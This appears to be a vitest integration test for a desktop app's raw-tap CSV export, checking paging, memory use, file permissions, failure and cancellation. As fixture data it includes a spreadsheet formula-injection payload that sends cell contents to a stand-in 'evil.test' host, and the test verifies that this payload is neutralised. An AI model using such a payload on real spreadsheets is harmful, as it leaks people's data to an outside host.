import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { startTestCloud, type TestCloud } from '@sparkmotion/cloud/test-support';
import { readCsv } from '@sparkmotion/shared/csv/csv';
import { neutraliseFormula } from '@sparkmotion/shared/csv/formula-guard';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { cloudCall } from '../session/cloud-call.ts';
import { cloudJoin, cloudLogin } from '../session/cloud-login.ts';
import { createSessionService } from '../session/session.service.ts';
import { createMemorySessionStore } from '../session/session-store.ts';
import { router } from '../trpc.ts';
import { createTapExportRouter } from './tap-export.router.ts';
import { createTapExports, type TapExportPage, type TapExportState, type TapExports } from './tap-export.ts';

setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

const TAPS = 6_000;
const PAGE = 500;
// Long user agents make each page about half a megabyte: a file that piled up in memory would show.
const LONG_AGENT = `Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) ${'x'.repeat(900)}`;
const FORMULA_AGENT = '=HYPERLINK("https://evil.test/?leak="&A1,"prize")';

let cloud: TestCloud;
let scope: { orgId: string; eventId: string };
let fetchPage: (input: Parameters<Parameters<typeof createTapExports>[0]['fetchPage']>[0]) => Promise<TapExportPage>;
let dir: string;
/** The event's taps: those inserted here and any the test cloud's event came with. */
let taps: number;

beforeAll(async () => {
  cloud = await startTestCloud();
  const event = await cloud.newEvent('Export festival');
  scope = { orgId: cloud.orgId, eventId: event.id };
  // Every tenth tap carries a formula a spreadsheet would run.
  await cloud.db.query(
    `insert into tap_log (id, tapped_at, band_id, outcome, org_id, event_id, mode_served, user_agent, ip, country)
     select gen_random_uuid(), date_trunc('milliseconds', now()) - make_interval(secs => g), 'band-' || (g % 97), 'SERVED', $1, $2, 'LIVE',
            case when g % 10 = 0 then $3 else $4 end, '10.0.0.1'::inet, 'DE'
     from generate_series(1, $5) as g`,
    [scope.orgId, scope.eventId, FORMULA_AGENT, LONG_AGENT, TAPS],
  );
  const counted = await cloud.db.query('select count(*)::int as n from tap_log where event_id = $1', [scope.eventId]);
  taps = counted.rows[0].n;
  const session = createSessionService({ store: createMemorySessionStore(), login: cloudLogin, join: cloudJoin });
  await session.signIn({ cloudUrl: cloud.url, email: cloud.demo.email, password: cloud.demo.password });
  const { call } = cloudCall({ session, afterChange: async () => {} });
  fetchPage = (input) => call((c) => c.analytics.exportCsv.query(input));
}, 60_000);
afterAll(async () => {
  await cloud?.close();
});

async function exportsIn(overrides: Partial<Parameters<typeof createTapExports>[0]> = {}) {
  dir = await mkdtemp(join(tmpdir(), 'sparkmotion-tap-export-'));
  return createTapExports({ dir: join(dir, 'exports'), fetchPage, pageSize: PAGE, ...overrides });
}

function finished(exports: TapExports, id: string, onState: (state: TapExportState) => void = () => {}) {
  return new Promise<TapExportState>((resolve) => {
    const stop = exports.subscribe(id, (state) => {
      onState(state);
      if (exports.isFinished(state)) {
        queueMicrotask(() => stop());
        resolve(state);
      }
    });
  });
}

describe("the desk's raw-tap export against a real cloud", () => {
  test('writes every tap once under one header, formulas neutralised, in a 0600 file, in bounded memory', async () => {
    const exports = await exportsIn();
    const heap: number[] = [];
    const started = exports.start(scope);
    const done = await finished(exports, started.id, (state) => {
      if (state.status !== 'running' || state.done === 0) return;
      gc();
      heap.push(process.memoryUsage().heapUsed);
    });

    expect(done).toMatchObject({ status: 'done', done: taps, total: taps, error: null });
    expect(done.download).toBe(`/downloads/taps/${started.id}`);
    expect(heap).toHaveLength(Math.ceil(taps / PAGE));
    const text = await readFile(done.file!, 'utf8');
    expect((await stat(done.file!)).mode & 0o777).toBe(0o600);

    // The same bytes as the cloud's export in one page, and every row of a scan of tap_log once, in order.
    const whole = await fetchPage({ ...scope, cursor: null, limit: 10_000 });
    expect(whole.nextCursor).toBeNull();
    expect(text === whole.csv).toBe(true);
    const rows = readCsv(text);
    expect(rows.filter((row) => row.cells[0] === 'tap_id')).toHaveLength(1);
    const scan = await cloud.db.query<{ id: string; user_agent: string }>(
      'select id, user_agent from tap_log where event_id = $1 order by tapped_at, id',
      [scope.eventId],
    );
    expect(rows.slice(1).map((row) => row.cells[0])).toEqual(scan.rows.map((row) => row.id));
    expect(
      text.split('\n').filter((line) => line.endsWith(`"${neutraliseFormula(FORMULA_AGENT).replaceAll('"', '""')}"`)),
    ).toHaveLength(TAPS / 10);

    // Twelve pages of ~0.5 MB each: the heap after the last page is where it was after the first.
    const grown = Math.max(...heap) - heap[0]!;
    console.log(`tap export: ${text.length} bytes in ${heap.length} pages, heap grew ${grown} bytes`);
    expect(grown).toBeLessThan(text.length / 3);
    await rm(dir, { recursive: true, force: true });
  }, 60_000);

  test('a page that fails says so and keeps what was written as an incomplete file, never a finished one', async () => {
    let pages = 0;
    const exports = await exportsIn({
      fetchPage: async (input) => {
        pages += 1;
        if (pages === 3) throw new Error('the cloud went away');
        return fetchPage(input);
      },
    });
    const done = await finished(exports, exports.start(scope).id);
    expect(done).toMatchObject({ status: 'failed', done: 2 * PAGE, error: 'the cloud went away', download: null });
    expect(done.file).toMatch(/\.partial\.csv$/);
    expect(readCsv(await readFile(done.file!, 'utf8'))).toHaveLength(2 * PAGE + 1);
    expect(await readdir(join(dir, 'exports'))).toEqual([done.file!.split('/').at(-1)]);
    await rm(dir, { recursive: true, force: true });
  }, 60_000);

  test('cancel stops after the page in flight and leaves no file behind', async () => {
    const exports = await exportsIn();
    const started = exports.start(scope);
    const done = await finished(exports, started.id, (state) => {
      if (state.done === PAGE) exports.cancel(started.id);
    });
    expect(done).toMatchObject({ status: 'cancelled', file: null, download: null });
    expect(done.done).toBeLessThan(taps);
    expect(await readdir(join(dir, 'exports'))).toEqual([]);
    expect(exports.takeDownload(started.id)).toBeNull();
    await rm(dir, { recursive: true, force: true });
  }, 60_000);

  test("moves the finished file to the operator's chosen destination", async () => {
    const exports = await exportsIn();
    const destination = join(dir, 'chosen.csv');
    const done = await finished(exports, exports.start(scope, destination).id);
    expect(done).toMatchObject({ status: 'done', file: destination, download: null });
    expect(readCsv(await readFile(destination, 'utf8'))).toHaveLength(taps + 1);
    expect(await readdir(join(dir, 'exports'))).toEqual([]);
    await rm(dir, { recursive: true, force: true });
  }, 60_000);

  test('following an export the desk does not know says so instead of waiting forever', async () => {
    const caller = router({ tapExport: createTapExportRouter(await exportsIn(), null) }).createCaller({});
    await expect(caller.tapExport.onProgress({ id: '6f1c2b1e-0000-4000-8000-000000000000' })).rejects.toThrow(
      'no such export',
    );
    await rm(dir, { recursive: true, force: true });
  });
});
